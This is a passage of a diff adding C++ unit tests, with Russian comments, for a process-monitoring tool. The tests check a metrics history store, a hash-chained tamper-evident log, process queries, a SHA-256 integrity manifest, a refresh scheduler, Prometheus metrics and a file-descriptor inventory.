+        inputs[0].startTime = 500;
+        inputs[0].cpuPercent = (t / 60) % 2 == 0 ? 10.0 : 30.0;
+        inputs[0].rssBytes = (1000 + t) * 1024ull;
+        inputs[0].threads = 4;
+        inputs[0].readBytesPerSec = 4096;
+        //PID 20 завершается через час
+        inputs[1].pid = 20;
+        inputs[1].startTime = 700;
+        inputs[1].cpuPercent = 50.0;
+        inputs.resize(t < 3600 ? 2 : 1);
+        history.record(start + t, inputs);
+    }
+    uint32_t now = start + duration - 1;
+
+    HistoryResult result;
+    CHECK(history.query(10, 0, now - 120, now, 0, result));
+    CHECK(result.resolution == 1 && result.samples.size() == 121 && result.samples.back().rssBytes / 1024 == 1000 + duration - 1);
+
+    CHECK(history.query(10, 0, now - 3600, now, 0, result));
+    double cpuSum = 0;
+    for (const HistorySample& sample : result.samples) {
+        cpuSum += sample.cpuPercent;
+    }
+    //Минутные точки сворачивают 60 секундных: RSS - максимум интервала
+    CHECK(result.resolution == 60 && result.samples.size() == 60);
+    CHECK(std::abs(cpuSum / static_cast<double>(result.samples.size()) - 20.0) < 1.0);
+    CHECK(result.samples.front().rssBytes / 1024 == 1000 + (result.samples.front().time - start) + 59);
+    CHECK(result.samples.front().readBytesPerSec == 4096);
+
+    CHECK(history.query(10, 500, start, now, 0, result));
+    CHECK(result.resolution == 60 && result.samples.size() == 180);
+    CHECK(history.query(10, 500, start, now, 600, result));
+    CHECK(result.resolution == 600 && result.samples.size() == 18 && std::abs(result.samples[0].cpuPercent - 20.0) < 0.5);
+
+    //PID 20 не виден два часа при хранении 10 минут - вытеснен
+    bool evicted = !history.query(20, 0, start, now, 0, result);
+    CHECK(evicted && history.processes() == 1);
+
+    //Бюджет на один блок участков: лишние процессы не записываются, пока нет завершившихся
+    HistoryStore small;
+    small.setMemoryBudget(1);
+    std::vector<HistoryInput> crowd(100);
+    for (size_t i = 0; i < crowd.size(); ++i) {
+        crowd[i].pid = static_cast<DWORD>(1000 + i);
+        crowd[i].startTime = 1;
+    }
+    small.record(start, crowd);
+    size_t admitted = small.processes();
+    crowd.resize(10);
+    for (size_t i = 0; i < crowd.size(); ++i) {
+        crowd[i].pid = static_cast<DWORD>(5000 + i);
+    }
+    small.record(start + 1, crowd);
+    bool replaced = small.query(5009, 0, start, start + 1, 0, result);
+    std::cout << "Budget: admitted " << admitted << " of 100, rejected " << small.rejected()
+              << ", newcomers replace exited: " << replaced << ", bytes per process " << small.bytesPerProcess() << std::endl;
+    CHECK(admitted > 0 && admitted < 100 && small.rejected() == 100 - admitted && replaced);
+}
+
+// Тест журнала безопасности: записи всех потоков, цепочка хешей, подделка, продолжение после перезапуска
+void test_secure_log() {
+    std::cout << "\n=== Testing SecureLog ===" << std::endl;
+
+    const std::string file = tempPath("test_security.log");
+    std::remove(file.c_str());
+    const size_t threads = 4;
+    const size_t perThread = 5000;
+    uint64_t written = 0;
+    {
+        SecureLog log;
+        log.setSyncInterval(std::chrono::milliseconds(20));
+        bool opened = log.open(file);
+        CHECK(opened);
+        if (!opened) {
+            return;
+        }
+        std::vector<std::thread> writers;
+        for (size_t t = 0; t < threads; ++t) {
+            writers.emplace_back([&log, t, perThread]() {
+                for (size_t i = 0; i < perThread; ++i) {
+                    //Полный буфер не ждет: повторяем, пока поток сброса не освободит место
+                    std::string message = "spawn pid=" + std::to_string(t * perThread + i);
+                    while (!log.log(message)) {
+                        std::this_thread::yield();
+                    }
+                }
+            });
+        }
+        for (auto& writer : writers) {
+            writer.join();
+        }
+        log.log("rule hit\nsecond line \\ escaped");
+        bool flushed = log.flush();
+        written = log.written();
+        CHECK(flushed && written >= threads * perThread + 1 && log.syncs() > 0);
+    }
+
+    uint64_t lines = 0;
+    std::string error;
+    bool valid = SecureLog::verify(file, lines, error);
+    std::cout << "Chain valid: " << valid << ", lines " << lines << error << std::endl;
+    CHECK(valid && lines == written);
+
+    //Продолжение цепочки после перезапуска
+    {
+        SecureLog log;
+        log.open(file);
+        log.log("restarted");
+        log.close();
+    }
+    uint64_t resumed = 0;
+    valid = SecureLog::verify(file, resumed, error);
+    CHECK(valid && resumed == lines + 1);
+
+#ifndef _WIN32
+    //Сбой записи (лимит размера файла): пачка отрезается, цепочка не сдвигается, потеря отмечается в журнале
+    {
+        SecureLog log;
+        log.open(file);
+        struct stat info;
+        bool sized = ::stat(file.c_str(), &info) == 0;
+        rlimit previous;
+        bool limited = sized && ::getrlimit(RLIMIT_FSIZE, &previous) == 0;
+        if (limited) {
+            rlimit small = previous;
+            small.rlim_cur = static_cast<rlim_t>(info.st_size) + 20;
+            auto handler = std::signal(SIGXFSZ, SIG_IGN);
+            limited = ::setrlimit(RLIMIT_FSIZE, &small) == 0;
+            log.log("entry that does not fit under the file size limit");
+            log.flush();
+            ::setrlimit(RLIMIT_FSIZE, &previous);
+            std::signal(SIGXFSZ, handler);
+        }
+        CHECK(limited && log.dropped() == 1);
+        log.log("after failed write");
+        log.close();
+    }
+    valid = SecureLog::verify(file, resumed, error);
+    std::string after;
+    {
+        std::ifstream in(file, std::ios::binary);
+        after.assign(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
+    }
+    CHECK(valid && resumed == lines + 3);
+    CHECK(after.find("1 entries lost (write failed)") != std::string::npos && after.find("does not fit") == std::string::npos);
+#endif
+
+    //Подделка: одна цифра PID в середине файла
+    std::string content;
+    {
+        std::ifstream in(file, std::ios::binary);
+        content.assign(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
+    }
+    size_t middle = content.find("spawn pid=", content.size() / 2);
+    std::string tampered = content;
+    tampered[middle + 10] = tampered[middle + 10] == '1' ? '2' : '1';
+    std::ofstream(file, std::ios::binary | std::ios::trunc) << tampered;
+    bool detected = !SecureLog::verify(file, lines, error);
+    std::cout << "Tampered detected: " << detected << " (" << error << ")" << std::endl;
+    CHECK(middle != std::string::npos && detected);
+
+    //Оборванная последняя строка отрезается при открытии, цепочка остается целой
+    std::ofstream(file, std::ios::binary | std::ios::trunc) << content << "17 2026-01-01T00:00";
+    {
+        SecureLog log;
+        log.open(file);
+        log.close();
+    }
+    valid = SecureLog::verify(file, lines, error);
+    CHECK(valid && lines == resumed + 1);
+    std::remove(file.c_str());
+}
+
+// Тест запросов с отбором: условия, шаблоны, top-K, проекция полей и кеш по поколению
+void test_process_query() {
+    std::cout << "\n=== Testing ProcessQuery ===" << std::endl;
+
+    //1000 процессов: worker-N (uid 1000) и daemon-N (uid 0), CPU растет с номером
+    ProcessTable table;
+    std::vector<HistoryInput> inputs;
+    for (DWORD i = 0; i < 1000; ++i) {
+        ProcessRecord record;
+        record.pid = 100 + i;
+        record.parentPid = i % 2 == 0 ? 1 : 100;
+        record.startTime = 5000 + i;
+        record.uid = i % 2 == 0 ? 1000 : 0;
+        std::string name = (i % 2 == 0 ? "worker-" : "daemon-") + std::to_string(i % 10);
+        std::string path = "/usr/bin/" + name;
+        record.name = name;
+        record.path = path;
+        table.append(record);
+        HistoryInput input;
+        input.pid = record.pid;
+        input.startTime = record.startTime;
+        input.cpuPercent = (i % 100) * 0.5;
+        input.rssBytes = static_cast<uint64_t>(i) << 20;
+        input.threads = i % 7 + 1;
+        inputs.push_back(input);
+    }
+    table.finishScan();
+    HistoryStore history;
+    history.record(1000, inputs);
+    std::vector<HistorySample> metrics;
+    history.latestSamples(table.pids(), table.startTimes(), metrics);
+
+    auto runQuery = [&](const std::string& request, std::string& error) {
+        ProtocolRequest parsed;
+        ProcessQuery query;
+        error.clear();
+        if (!ProcessJson::parseRequest(request, parsed) || !query.compile(parsed, error)) {
+            return std::string();
+        }
+        JsonWriter out;
+        query.write(out, table, &metrics, 7);
+        return std::string(out.view());
+    };
+    std::string error;
+    CHECK(ProcessQuery::globMatch("work*-?", "worker-5") && !ProcessQuery::globMatch("*.so", "lib.so.1") && ProcessQuery::globMatch("*", ""));
+
+    std::string top = runQuery("{\"command\":\"get_processes\",\"sort_by\":\"cpu\",\"limit\":3,\"fields\":\"pid,cpu\"}", error);
+    std::cout << "Top 3 by CPU: " << top << std::endl;
+    CHECK(top == "{\"status\":\"success\",\"generation\":7,\"matched\":1000,\"processes\":"
+                 "[{\"pid\":199,\"cpu\":49.5},{\"pid\":299,\"cpu\":49.5},{\"pid\":399,\"cpu\":49.5}]}");
 
+    std::string filtered = runQuery("{\"command\":\"get_processes\",\"where\":\"name=worker-* and cpu>=40 and rss<500M\","
+                                    "\"sort_by\":\"pid\",\"order\":\"desc\",\"limit\":2,\"fields\":\"pid,name,uid,rss,threads\"}", error);
+    std::cout << "Filtered: " << filtered << std::endl;
+    CHECK(filtered.rfind("{\"status\":\"success\",\"generation\":7,\"matched\":50,\"processes\":"
+                         "[{\"pid\":598,\"name\":\"worker-8\",\"uid\":1000,\"rss\":522190848,\"threads\":2},{\"pid\":596,", 0) == 0);
+
+    std::string system = runQuery("{\"command\":\"get_processes\",\"filter\":\"system\",\"where\":\"path!='/usr/bin/daemon-1' and ppid=100\",\"limit\":1}", error);
+    CHECK(system.find("\"matched\":400,") != std::string::npos && system.find("\"name\":\"daemon-1\"") == std::string::npos);
+
+    const char* invalid[] = {
+        "{\"command\":\"get_processes\",\"where\":\"color=red\"}",
+        "{\"command\":\"get_processes\",\"where\":\"name>abc\"}",
+        "{\"command\":\"get_processes\",\"where\":\"cpu>lots\"}",
+        "{\"command\":\"get_processes\",\"where\":\"pid>1 or pid<5\"}",
+        "{\"command\":\"get_processes\",\"sort_by\":\"size\"}",
+        "{\"command\":\"get_processes\",\"fields\":\"pid,,name\"}",
+    };
+    size_t rejected = 0;
+    for (const char* request : invalid) {
+        if (runQuery(request, error).empty() && !error.empty()) {
+            ++rejected;
+            std::cout << "  rejected: " << error << std::endl;
+        }
+    }
+    std::cout << "Invalid queries rejected: " << rejected << " of " << sizeof(invalid) / sizeof(invalid[0]) << std::endl;
+    CHECK(rejected == sizeof(invalid) / sizeof(invalid[0]));
+
+    //Кеш: повтор в том же поколении - готовый ответ, новое поколение - заново
+    ProtocolRequest parsed;
+    ProcessJson::parseRequest("{\"command\":\"get_processes\",\"sort_by\":\"rss\",\"limit\":5}", parsed);
+    ProcessQuery query;
+    query.compile(parsed, error);
+    QueryCache cache;
+    QueryCache::Payload first = cache.get(query, table, 1, &history);
+    QueryCache::Payload second = cache.get(query, table, 1, &history);
+    QueryCache::Payload next = cache.get(query, table, 2, &history);
+    CHECK(first && first == second && next != first && cache.hits() == 1 && cache.misses() == 2);
+}
+
+// Тест манифеста: совершенный хеш без промахов и ложных попаданий, список sha256sum, вердикты
+void test_integrity_manifest() {
+    std::cout << "\n=== Testing IntegrityManifest ===" << std::endl;
+
+    const std::string file = tempPath("test_manifest.bin");
+    const size_t entries = 20000;
+    ManifestCompiler compiler;
+    auto digestOf = [](const std::string& text) {
+        unsigned char digest[Sha256::DIGEST_SIZE];
+        Sha256::hash(text.data(), text.size(), digest);
+        return Sha256::toHex(digest, sizeof(digest));
+    };
+    for (size_t i = 0; i < entries; ++i) {
+        std::string path = "/usr/lib/pkg" + std::to_string(i % 700) + "/bin" + std::to_string(i);
+        compiler.add(path, digestOf(path));
+    }
+    compiler.add("/usr/lib/pkg0/bin0", digestOf("replaced"));
+    bool badDigest = compiler.add("/usr/bin/bad", "xyz");
+    CHECK(compiler.size() == entries && compiler.duplicates() == 1 && !badDigest);
+
+    IntegrityManifest manifest;
+    bool written = compiler.write(file) && manifest.open(file);
+    size_t found = 0;
+    size_t correct = 0;
+    size_t falseHits = 0;
+    for (size_t i = 0; written && i < entries; ++i) {
+        std::string path = "/usr/lib/pkg" + std::to_string(i % 700) + "/bin" + std::to_string(i);
+        found += manifest.find(path) ? 1 : 0;
+        correct += manifest.check(path, digestOf(i == 0 ? "replaced" : path)) == IntegrityManifest::Verdict::Match ? 1 : 0;
+        falseHits += manifest.find(path + "x") || manifest.find("/opt/bin" + std::to_string(i)) ? 1 : 0;
+    }
+    CHECK(written && manifest.size() == entries && found == entries && correct == entries && falseHits == 0);
+    CHECK(manifest.check("/usr/lib/pkg5/bin5", digestOf("other")) == IntegrityManifest::Verdict::Mismatch);
+    CHECK(manifest.check("/usr/bin/unlisted", digestOf("x")) == IntegrityManifest::Verdict::Unknown);
+    CHECK(manifest.check("/usr/lib/pkg5/bin5", "") == IntegrityManifest::Verdict::Unreadable);
+    manifest.close();
+
+    //Список sha256sum: комментарии, текстовый и двоичный режим; свой исполняемый файл для verifyDigitalSignature
+    const std::string list = tempPath("test_manifest.sha256");
+    std::string exePath = currentExecutablePath();
+    std::string exeHash = SecurityUtils::calculateFileHash(exePath);
+    {
+        std::ofstream out(list);
+        out << "# package build\n" << exeHash << "  " << exePath << "\n" << digestOf("a") << " *" << "/usr/bin/a b\n";
+    }
+    ManifestCompiler fromList;
+    bool listed = fromList.addList(list) && fromList.write(file) && SecurityUtils::loadIntegrityManifest(file);
+    auto loaded = SecurityUtils::integrityManifest();
+    CHECK(listed && loaded && loaded->size() == 2 && loaded->find("/usr/bin/a b") != nullptr);
+    CHECK(SecurityUtils::verifyDigitalSignature(exePath) && !SecurityUtils::verifyDigitalSignature(list));
+
+    //Пустой манифест и поврежденный заголовок
+    ManifestCompiler empty;
+    bool emptyOpened = empty.write(file) && manifest.open(file) && manifest.find("/usr/bin/a b") == nullptr;
+    manifest.close();
+    {
+        std::ofstream(file, std::ios::binary | std::ios::trunc) << "PMMANIF1 damaged";
+    }
+    bool damagedRejected = !manifest.open(file);
+    std::cout << "Empty manifest opens: " << emptyOpened << ", damaged rejected: " << damagedRejected << std::endl;
+    CHECK(emptyOpened && damagedRejected);
+    std::remove(list.c_str());
+    std::remove(file.c_str());
+}
+
+// Тест расписания: уровни процессов, интервалы, exec, переиспользованный PID и бюджет
+void test_refresh_scheduler() {
+    std::cout << "\n=== Testing RefreshScheduler ===" << std::endl;
+
+    typedef RefreshScheduler::Clock Clock;
+    using std::chrono::seconds;
+    const unsigned path = RefreshScheduler::mask(RefreshScheduler::Attribute::Path);
+    const unsigned hash = RefreshScheduler::mask(RefreshScheduler::Attribute::Hash);
+
+    RefreshScheduler::Policy policy;
+    policy.newCycles = 1;
+    policy.quietCycles = 2;
+    policy.budget = Clock::duration(0);
+    RefreshScheduler scheduler;
+    scheduler.setPolicy(policy);
+
+    //Один цикл: activity[i] - CPU-тики процессов 10, 20, 30; возвращает число чтений пути
+    Clock::time_point start = Clock::now();
+    auto cycle = [&](int second, const uint64_t (&activity)[3], const char* name30, uint64_t start10) {
+        scheduler.beginCycle(start + seconds(second));
+        scheduler.observe(10, 1, start10, "init", activity[0]);
+        scheduler.observe(20, 1, 200, "sshd", activity[1]);
+        scheduler.observe(30, 1, 300, name30, activity[2]);
+        scheduler.plan(path);
+        size_t reads = 0;
+        RefreshScheduler::Task task;
+        while (scheduler.next(task)) {
+            scheduler.setPath(task.index, "/usr/bin/" + scheduler.entries()[task.index].name);
+            ++reads;
+        }
+        return reads;
+    };
+
+    size_t first = cycle(0, {1, 1, 1}, "bash", 100);
+    size_t quiet = cycle(1, {1, 1, 1}, "bash", 100);
+    size_t active = cycle(2, {1, 5, 1}, "bash", 100);
+    CHECK(first == 3 && quiet == 0 && active == 0);
+    CHECK(scheduler.tierCount(RefreshScheduler::Tier::New) == 0 && scheduler.tierCount(RefreshScheduler::Tier::Changed) == 1 &&
+          scheduler.tierCount(RefreshScheduler::Tier::Idle) == 2);
+
+    //Changed - каждые 5 с, Idle - раз в минуту
+    size_t changedDue = cycle(6, {1, 5, 1}, "bash", 100);
+    size_t exec = cycle(7, {1, 5, 1}, "python3", 100);
+    size_t reused = cycle(8, {1, 5, 1}, "python3", 150);
+    size_t idleDue = cycle(66, {1, 5, 1}, "python3", 150);
+    CHECK(changedDue == 1 && exec == 1 && reused == 1 && idleDue == 2);
+    CHECK(scheduler.entries()[2].path == "/usr/bin/python3");
+
+    //Бюджет: хеш не обязателен, после первого же чтения остальные ждут
+    policy.budget = Clock::duration(1);
+    scheduler.setPolicy(policy);
+    scheduler.beginCycle(start + seconds(67));
+    for (DWORD pid = 100; pid < 110; ++pid) {
+        scheduler.observe(pid, 1, pid, "worker", 0);
+    }
+    scheduler.plan(hash);
+    RefreshScheduler::Task task;
+    size_t hashed = 0;
+    DWORD firstHashed = 0;
+    while (scheduler.next(task)) {
+        firstHashed = scheduler.entries()[task.index].pid;
+        volatile uint64_t sink = 0;
+        for (int i = 0; i < 1000; ++i) {
+            sink = sink + static_cast<uint64_t>(i);
+        }
+        scheduler.setHash(task.index, "digest");
+        ++hashed;
+    }
+    CHECK(hashed == 1 && firstHashed == 100 && scheduler.deferred() == 9);
+    scheduler.beginCycle(start + seconds(68));
+    for (DWORD pid = 100; pid < 110; ++pid) {
+        scheduler.observe(pid, 1, pid, "worker", 0);
+    }
+    scheduler.plan(hash);
+    scheduler.next(task);
+    scheduler.markRefreshed(task.index, task.attribute);
+    CHECK(scheduler.entries()[task.index].pid == 101);
+}
+
+// Метрики теста: регистрируются при старте, как и метрики модулей
+static MetricCounter testEvents("test_events_total", "Events counted by test_metrics", "source", "test");
+static MetricHistogram testLatency("test_latency_seconds", "Latencies observed by test_metrics");
+
+// Тест метрик: ячейки потоков складываются при чтении, в том числе завершившихся
+void test_metrics() {
+    std::cout << "\n=== Testing Metrics ===" << std::endl;
+
+    const size_t threads = 4;
+    const size_t perThread = 100000;
+    std::vector<std::thread> workers;
+    for (size_t t = 0; t < threads; ++t) {
+        workers.emplace_back([perThread]() {
+            for (size_t i = 0; i < perThread; ++i) {
+                testEvents.add();
+            }
+        });
+    }
+    for (auto& worker : workers) {
+        worker.join();
+    }
+    testEvents.add(5); //и живой текущий поток
+
+    //Интервалы 1 мкс * 2^k: 500 нс -> 0, 1 мкс -> 0, 1.5 мкс -> 1, 3 мс -> 12
+    CHECK(Metrics::bucketOf(500) == 0 && Metrics::bucketOf(1000) == 0 && Metrics::bucketOf(1500) == 1 &&
+          Metrics::bucketOf(3000000) == 12 && Metrics::bucketOf(600000000000ull) == Metrics::BUCKETS);
+    for (int i = 0; i < 98; ++i) {
+        testLatency.observe(2000); //2 мкс
+    }
+    testLatency.observe(3000000);
+    testLatency.observe(3000000);
+
+    JsonWriter json;
+    Metrics::writeJson(json);
+    std::string text(json.view());
+    std::cout << "Metrics enabled: " << Metrics::enabled() << std::endl;
+    size_t entry = text.find("{\"name\":\"test_events_total\"");
+    std::string counter;
+    if (entry != std::string::npos) {
+        counter = text.substr(entry, text.find('}', text.find('}', entry) + 1) - entry + 1);
+    }
+    entry = text.find("{\"name\":\"test_latency_seconds\"");
+    std::string histogram;
+    if (entry != std::string::npos) {
+        histogram = text.substr(entry, text.find('}', entry) - entry + 1);
+    }
+    //Без MONITOR_METRICS метрики не регистрируются и не считаются
+    if (Metrics::enabled()) {
+        CHECK(counter.find("\"value\":" + std::to_string(threads * perThread + 5) + "}") != std::string::npos);
+        CHECK(histogram.find("\"count\":100,") != std::string::npos && histogram.find("\"p50_ns\":2000,") != std::string::npos &&
+              histogram.find("\"p99_ns\":4096000}") != std::string::npos);
+    }
+
+    std::string prometheus;
+    Metrics::writePrometheus(prometheus);
+    std::cout << "Prometheus counter line: "
+              << (prometheus.find("test_events_total{source=\"test\"} " + std::to_string(threads * perThread + 5) + "\n") != std::string::npos)
+              << ", +Inf bucket: " << (prometheus.find("test_latency_seconds_bucket{le=\"+Inf\"} 100\n") != std::string::npos)
+              << ", one TYPE per name: "
+              << (prometheus.find("# TYPE monitor_requests_total") == prometheus.rfind("# TYPE monitor_requests_total"))
+              << ", scan histogram: " << (prometheus.find("monitor_scan_duration_seconds_count") != std::string::npos)
+              << std::endl;
+    if (Metrics::enabled()) {
+        CHECK(prometheus.find("test_events_total{source=\"test\"} " + std::to_string(threads * perThread + 5) + "\n") != std::string::npos);
+        CHECK(prometheus.find("test_latency_seconds_bucket{le=\"+Inf\"} 100\n") != std::string::npos);
+        CHECK(prometheus.find("# TYPE monitor_requests_total") == prometheus.rfind("# TYPE monitor_requests_total"));
+        CHECK(prometheus.find("monitor_scan_duration_seconds_count") != std::string::npos);
+    }
+}
+
+#ifdef __linux__
+// Тест сэмплера: свой процесс, нагруженный вычислениями, должен показать заметный CPU
+void test_process_sampler() {
+    std::cout << "\n=== Testing ProcessSampler ===" << std::endl;
+
+    ProcessSampler sampler;
+    size_t first = sampler.sample();
+    //Полсекунды чистого счета в этом потоке
+    volatile uint64_t sink = 0;
+    auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(500);
+    while (std::chrono::steady_clock::now() < deadline) {
+        for (int i = 0; i < 100000; ++i) {
+            sink = sink + static_cast<uint64_t>(i);
+        }
+    }
+    sampler.sample();
+
+    DWORD self = static_cast<DWORD>(getpid());
+    const ProcessSample* own = nullptr;
+    for (const auto& sample : sampler.samples()) {
+        if (sample.pid == self) {
+            own = &sample;
+        }
+    }
+    std::cout << "Processes: " << first << ", open files kept: " << sampler.openFiles() << std::endl;
+    CHECK(first > 0 && own != nullptr);
+    if (!own) {
+        std::cout << "Own process not sampled" << std::endl;
+        return;
+    }
+    std::cout << "Own process: rates " << std::boolalpha << own->hasRates
+              << ", CPU above 50%: " << (own->cpuPercent > 50.0)
+              << ", RSS > 0: " << (own->rssBytes > 0)
+              << ", threads: " << own->threads
+              << ", io readable: " << own->hasIo << std::endl;
+    //Порог ниже 100%: на занятой машине поток делит ядро с другими
+    CHECK(own->hasRates && own->cpuPercent > 25.0 && own->rssBytes > 0 && own->threads >= 1);
+
+    //С расписанием io читается задачами Metrics: сразу повторный сэмпл перечитывает только новые процессы
+    ProcessSampler scheduled;
+    RefreshScheduler scheduler;
+    size_t processes = scheduled.sample(scheduler);
+    uint64_t firstReads = scheduler.refreshes(RefreshScheduler::Attribute::Metrics);
+    scheduled.sample(scheduler);
+    uint64_t secondReads = scheduler.refreshes(RefreshScheduler::Attribute::Metrics) - firstReads;
+    const ProcessSample* scheduledOwn = nullptr;
+    for (const auto& sample : scheduled.samples()) {
+        if (sample.pid == self) {
+            scheduledOwn = &sample;
+        }
+    }
+    CHECK(firstReads > 0 && firstReads <= processes && secondReads < firstReads);
+    CHECK(scheduledOwn && scheduledOwn->hasIo == own->hasIo && scheduledOwn->hasRates);
+}
+
+// Тест скана с расписанием: те же процессы, что у полного скана, а повторный скан почти не читает пути
+void test_refresh_scan() {
+    std::cout << "\n=== Testing ProcessTable scan with RefreshScheduler ===" << std::endl;
+
+    ProcessTable full;
+    full.scan();
+    ProcessTable table;
+    RefreshScheduler scheduler;
+    table.scan(scheduler);
+    uint64_t firstReads = scheduler.refreshes(RefreshScheduler::Attribute::Path);
+    table.scan(scheduler);
+    uint64_t secondReads = scheduler.refreshes(RefreshScheduler::Attribute::Path) - firstReads;
+
+    size_t own = table.findRow(static_cast<DWORD>(getpid()));
+    size_t ownFull = full.findRow(static_cast<DWORD>(getpid()));
+    CHECK(own != table.size() && ownFull != full.size());
+    if (own == table.size() || ownFull == full.size()) {
+        std::cout << "Own process not found" << std::endl;
+        return;
+    }
+    std::cout << "Own row matches full scan: " << std::boolalpha
+              << (table[own].getPath() == full[ownFull].getPath() && table[own].getUid() == full[ownFull].getUid()
+                  && table[own].getName() == full[ownFull].getName() && table[own].getStartTime() == full[ownFull].getStartTime())
+              << ", tiers new/changed/idle: " << scheduler.tierCount(RefreshScheduler::Tier::New) << "/"
+              << scheduler.tierCount(RefreshScheduler::Tier::Changed) << "/"
+              << scheduler.tierCount(RefreshScheduler::Tier::Idle) << std::endl;
+    CHECK(table[own].getPath() == full[ownFull].getPath() && table[own].getUid() == full[ownFull].getUid() &&
+          table[own].getName() == full[ownFull].getName() && table[own].getStartTime() == full[ownFull].getStartTime());
+    //Повторно читаются только пути процессов, появившихся между сканами
+    CHECK(firstReads >= table.size() / 2 && secondReads < firstReads);
+}
+
+// Тест инвентаря дескрипторов: свой слушающий сокет и открытый файл находятся по порту и пути,
+// повторный скан перечитывает каталоги fd только у процессов с изменившимся числом дескрипторов
+void test_fd_inventory() {
+    std::cout << "\n=== Testing FdInventory ===" << std::endl;
+
+    int listener = socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in address = {};
+    address.sin_family = AF_INET;
+    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    socklen_t length = sizeof(address);
+    bool listening = listener >= 0 && bind(listener, reinterpret_cast<sockaddr*>(&address), sizeof(address)) == 0 &&
+                     listen(listener, 1) == 0 && getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length) == 0;
+    CHECK(listening);
+    if (!listening) {
+        std::cout << "Listening socket failed" << std::endl;
+        return;
+    }
+    uint16_t port = ntohs(address.sin_port);
+    const std::string file = tempPath("test_fd_inventory.tmp");
+    FILE* opened = std::fopen(file.c_str(), "w");
+
+    ProcessTable table;
+    table.scan();
+    FdInventory inventory;
+    size_t fds = inventory.scan(table);
+    DWORD self = static_cast<DWORD>(getpid());
+    std::vector<FdInventory::Holder> holders;
+    inventory.findByPort(port, holders);
+    bool portFound = false;
+    for (const FdInventory::Holder& holder : holders) {
+        const FdInventory::Socket* socket = inventory.findSocket(inventory.fd(holder).inode);
+        portFound |= inventory.processes()[holder.process].pid == self && socket &&
+                     std::string(FdInventory::stateName(*socket)) == "LISTEN";
+    }
+    holders.clear();
+    inventory.findByPath(file, holders);
+    bool fileFound = holders.size() == 1 && inventory.processes()[holders[0].process].pid == self;
+    const FdInventory::Process* own = inventory.findProcess(self);
+    std::cout << "Processes: " << inventory.processes().size() << ", fds " << fds << ", sockets " << inventory.socketCount()
+              << ", denied " << inventory.denied() << std::endl;
+    CHECK(opened != nullptr && fds > 0);
+    CHECK(portFound && fileFound && own && !own->denied && !own->fds.empty());
+
+    //Число дескрипторов не изменилось - каталоги почти никого не перечитываются
+    inventory.scan(table);
+    size_t quiet = inventory.rescanned();
+    FdInventory published;
+    published.copyFrom(inventory);
+    int extra = dup(listener);
+    inventory.scan(table);
+    holders.clear();
+    inventory.findByPort(port, holders);
+    //Копия не меняется следующими сканами оригинала
+    std::vector<FdInventory::Holder> copied;
+    CHECK(published.findByPort(port, copied) == 1 && published.processes()[copied[0].process].pid == self);
+    copied.clear();
+    CHECK(published.findByPath(file, copied) == 1 && published.string(published.fd(copied[0]).target) == file);
+    CHECK(published.fdCount() > 0 && published.findProcess(self) != nullptr);
+    CHECK(holders.size() == 2);
+    //Без числа дескрипторов в st_size (ядра до 6.2) перечитываются все каталоги
+    if (inventory.countsSupported()) {
+        CHECK(quiet < inventory.processes().size());
+    } else {
+        CHECK(quiet == inventory.processes().size());
+    }
+    CHECK(inventory.findByPort(1, holders) == 0 && inventory.findByPath("/nonexistent/file", holders) == 0);
+
+    FdInventory::Socket socket;
+    socket.ipv6 = true;
+    socket.local[15] = 1;
+    socket.localPort = 8080;
+    socket.remote[0] = 0x20;
+    socket.remote[1] = 0x01;
+    socket.remote[2] = 0x0d;
+    socket.remote[3] = 0xb8;
+    socket.remote[15] = 5;
+    char text[64];
+    CHECK(std::string(text, FdInventory::formatAddress(socket, false, text, sizeof(text))) == "[::1]:8080");
+    CHECK(std::string(text, FdInventory::formatAddress(socket, true, text, sizeof(text))) == "[2001:db8::5]:0");
+
+    close(extra);
+    close(listener);
+    if (opened) {
+        std::fclose(opened);
+    }
+    std::remove(file.c_str());
+}
+
+// Тест проверки процессов: свой образ совпадает с манифестом, подмененный хеш - несовпадение
+void test_integrity_processes() {
+    std::cout << "\n=== Testing IntegrityManifest::verifyProcesses ===" << std::endl;
+
+    const std::string file = tempPath("test_processes_manifest.bin");
+    ProcessTable table;
+    table.scan();
+    size_t own = table.findRow(static_cast<DWORD>(getpid()));
+    CHECK(own != table.size());
+    if (own == table.size()) {
+        std::cout << "Own process not found" << std::endl;
+        return;
+    }
+    std::string exePath = table[own].getPath();
+    std::vector<IntegrityManifest::ProcessResult> results;
+    IntegrityManifest::Verdict verdicts[2];
+    for (int pass = 0; pass < 2; ++pass) {
+        ManifestCompiler compiler;
+        compiler.add(exePath, pass == 0 ? SecurityUtils::calculateFileHash(exePath) : std::string(64, '0'));
+        IntegrityManifest manifest;
+        bool opened = compiler.write(file) && manifest.open(file);
+        CHECK(opened);
+        if (!opened) {
+            return;
+        }
+        manifest.verifyProcesses(table, results);
+        verdicts[pass] = IntegrityManifest::Verdict::Unknown;
+        for (const auto& result : results) {
+            if (result.row == own) {
+                verdicts[pass] = result.verdict;
+            }
+        }
+    }
+    size_t withPath = 0;
+    for (size_t row = 0; row < table.size(); ++row) {
+        withPath += table[row].getPath().empty() ? 0 : 1;
+    }
+    CHECK(results.size() == withPath);
+    CHECK(verdicts[0] == IntegrityManifest::Verdict::Match && verdicts[1] == IntegrityManifest::Verdict::Mismatch);
+
+    //По расписанию: образ хешируется задачей Hash, следующий цикл берет готовый хеш до его интервала
+    ManifestCompiler compiler;
+    compiler.add(exePath, SecurityUtils::calculateFileHash(exePath));
+    IntegrityManifest manifest;
+    bool opened = compiler.write(file) && manifest.open(file);
+    CHECK(opened);
+    RefreshScheduler scheduler;
+    RefreshScheduler::Policy policy;
+    policy.budget = RefreshScheduler::Clock::duration(0);
+    scheduler.setPolicy(policy);
+    IntegrityManifest::Verdict scheduledVerdicts[2] = {IntegrityManifest::Verdict::Unknown, IntegrityManifest::Verdict::Unknown};
+    uint64_t hashes[2] = {};
+    for (int cycle = 0; opened && cycle < 2; ++cycle) {
+        table.scan(scheduler);
+        manifest.verifyProcesses(table, scheduler, results);
+        hashes[cycle] = scheduler.refreshes(RefreshScheduler::Attribute::Hash);
+        size_t row = table.findRow(static_cast<DWORD>(getpid()));
+        for (const auto& result : results) {
+            if (result.row == row) {
+                scheduledVerdicts[cycle] = result.verdict;
+            }
+        }
+    }
